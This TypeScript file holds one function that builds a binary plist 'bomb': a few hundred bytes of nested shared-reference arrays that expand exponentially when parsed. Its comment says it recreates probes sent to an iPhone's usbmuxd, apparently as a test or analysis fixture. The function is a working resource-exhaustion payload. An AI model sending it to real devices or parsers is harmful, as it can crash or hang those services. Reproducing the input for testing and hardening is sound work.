/**
 * A binary plist whose arrays each refer twice to the level below: a dictionary `{Bomb: [[[...], [...]], ...]}` of
 * `levels` arrays over one `true`, about 100 + 3 * levels bytes that expand into 2^levels leaves. What the probes sent
 * to a held iPhone's usbmuxd.
 */
export function sharedReferencePlist(levels: number): Buffer {
  // Objects: 0 the top dictionary, 1 its key, 2..levels+1 the arrays (each refers twice to the next), then the leaf.
  const leaf = levels + 2;
  const objects: Buffer[] = [Buffer.from([0xd1, 1, 2]), Buffer.concat([Buffer.from([0x54]), Buffer.from('Bomb')])];
  for (let i = 0; i < levels; i++) objects.push(Buffer.from([0xa2, i + 3, i + 3]));
  objects.push(Buffer.from([0x09]));
  if (leaf > 255) throw new Error('one-byte references only');
  const header = Buffer.from('bplist00', 'latin1');
  const offsets: number[] = [];
  let at = header.length;
  for (const object of objects) {
    offsets.push(at);
    at += object.length;
  }
  const trailer = Buffer.alloc(32);
  trailer[6] = 1;
  trailer[7] = 1;
  trailer.writeUInt32BE(objects.length, 12);
  trailer.writeUInt32BE(0, 20);
  trailer.writeUInt32BE(at, 28);
  return Buffer.concat([header, ...objects, Buffer.from(offsets), trailer]);
}
